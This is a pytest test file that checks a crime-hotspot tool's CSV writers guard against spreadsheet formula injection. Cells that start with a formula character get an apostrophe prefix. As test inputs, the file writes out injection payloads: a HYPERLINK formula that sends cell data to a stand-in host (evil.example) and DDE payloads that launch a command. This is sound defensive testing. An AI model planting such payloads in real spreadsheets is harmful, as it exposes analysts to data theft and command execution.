"""Spreadsheet formula injection: no CSV the tool writes starts a text cell with a formula.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
a tab or carriage return, the same), so ``=HYPERLINK(…)`` in a police.uk ``Location`` or a
DDE payload in a partner column would run on the analyst's machine. OWASP's fix is a
leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hotspots.cli import main
from hotspots.io._writers import FORMULA_START, formula_safe, write_csv

BEATS = Path(__file__).resolve().parents[1] / (
    "hotspots/_data/boundaries/leicestershire/beats_approx.geojson.gz"
)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_text_cells_are_prefixed_and_numbers_kept():
    t = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", None],
            "n": [-1, -2.5, 0, 1, 2, 3, 4, 5, 6],
            "cat": pd.Categorical(["=a", "b", "=a", "-c", "b", "b", "b", "b", "b"]),
            "mixed": [-5, "-5", "=x", 1.5, None, "ok", "@", "+", "x"],
            "=head": ["x"] * 9,
        }
    )
    got = formula_safe(t)
    assert got["text"].tolist()[:8] == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", ""]
    assert got["text"].isna().tolist()[-1]
    assert got["n"].tolist() == t["n"].tolist() and got["n"].dtype == t["n"].dtype
    assert got["cat"].astype(str).tolist()[:4] == ["'=a", "b", "'=a", "'-c"]
    assert got["mixed"].tolist()[:4] == [-5, "'-5", "'=x", 1.5]  # the int -5 is a number
    assert got["mixed"].tolist()[6:] == ["'@", "'+", "x"]
    assert list(got.columns)[-1] == "'=head"
    assert t["text"].iloc[0] == "=1+1"  # the caller's frame is not changed
    clean = pd.DataFrame({"a": ["x", "y"], "n": [-1, 2]})
    assert formula_safe(clean) is clean


def test_prefixed_and_plain_categories_that_clash_stay_distinct():
    t = pd.DataFrame({"c": pd.Categorical(["=a", "'=a", "b"])})
    assert formula_safe(t)["c"].tolist() == ["'=a", "'=a", "b"]


@given(st.lists(st.text(max_size=6), min_size=1, max_size=20))
def test_no_written_text_cell_starts_a_formula(values):
    got = formula_safe(pd.DataFrame({"v": values}))["v"]
    for before, after in zip(values, got, strict=True):
        if before.startswith(FORMULA_START):
            assert after == "'" + before
        else:
            assert after == before


def test_write_csv_guards_by_default_and_can_be_turned_off(tmp_path):
    t = pd.DataFrame({"where": ["=1+1", "Shop"], "n": [-3, 4]})
    write_csv(t, tmp_path / "a.csv")
    write_csv(t, tmp_path / "b.csv", neutralise_formulas=False)
    write_csv(t.iloc[:1], tmp_path / "c.csv", chunks=[t.iloc[1:], t.iloc[:1]])
    assert (tmp_path / "a.csv").read_text() == "where,n\n'=1+1,-3\nShop,4\n"
    assert (tmp_path / "b.csv").read_text() == "where,n\n=1+1,-3\nShop,4\n"
    assert (tmp_path / "c.csv").read_text() == "where,n\n'=1+1,-3\nShop,4\n'=1+1,-3\n"


def _hostile(tmp_path: Path, police_slice: Path) -> tuple[Path, Path]:
    src = next(police_slice.glob("*.csv.gz"))
    with gzip.open(src, "rt", encoding="utf-8") as fh:
        rows = pd.read_csv(fh, dtype=str, keep_default_na=False)
    pick = np.arange(len(rows)) % len(PAYLOADS)
    for i, payload in enumerate(PAYLOADS):
        rows.loc[pick == i, "Location"] = payload
    rows.loc[:40, "Crime type"] = "=cmd|' /C calc'!A0"  # also a category
    rows.loc[:40, "Crime ID"] = ""  # not linked as duplicates of each other
    rows.loc[0, "Month"] = "=1+1"  # one reject carrying a formula
    incidents = tmp_path / "in"
    incidents.mkdir()
    rows.to_csv(incidents / "2025-06-street.csv", index=False)
    beats = gpd.read_file(f"/vsigzip/{BEATS}")
    beats["beat_name"] = "=" + beats["beat_name"]
    beats["npa_name"] = "@" + beats["npa_name"]
    areas = tmp_path / "beats.geojson"
    beats.to_file(areas, driver="GeoJSON")
    return incidents, areas


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_no_csv_of_a_run_starts_a_text_cell_with_a_formula(tmp_path, police_slice, capsys):
    incidents, areas = _hostile(tmp_path, police_slice)
    fields = ["--area-field", "beat=beat_name", "--area-field", "npa=npa_name"]
    out, raw = tmp_path / "out", tmp_path / "raw"
    args = ["-q", "run", "--incidents", str(incidents), "--areas", str(areas), *fields]
    assert main([*args, "--out", str(out)]) == 0, capsys.readouterr().err
    assert main([*args, "--out", str(raw), "--no-formula-guard"]) == 0
    csvs = sorted(p.name for p in out.glob("*.csv"))
    assert {"areas.csv", "hotspots.csv", "patrol_list.csv", "rejects.csv"} <= set(csvs)
    seen = set()
    for name in csvs:
        for row in _cells(out / name):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    assert _is_number(cell), (name, cell)  # e.g. -0.25 in a numeric column
                seen.update(p for p in PAYLOADS + ("=1+1",) if cell == "'" + p)
                seen.update(["area"] if cell.startswith(("'=", "'@")) else [])
    assert "area" in seen and "=1+1" in seen  # area names and the rejected Month
    raw_text = (raw / "rejects.csv").read_text(encoding="utf-8")
    assert "\n=1+1," not in raw_text  # the reject row starts with its file name
    assert ",=1+1," in raw_text and ",'=1+1," not in raw_text  # the switch turns it off


@pytest.mark.slow
def test_profile_and_evaluate_tables_are_guarded(tmp_path, police_slice, capsys):
    incidents, areas = _hostile(tmp_path, police_slice)
    fields = ["--area-field", "beat=beat_name", "--area-field", "npa=npa_name"]
    common = ["--incidents", str(incidents), "--areas", str(areas), *fields]
    assert main(["-q", "profile", *common, "--out", str(tmp_path / "p")]) == 0, (
        capsys.readouterr().err
    )
    names = [row[1] for row in _cells(tmp_path / "p" / "profiles.csv")[1:]]
    assert names and all(n.startswith(("'=", "'@")) for n in names)
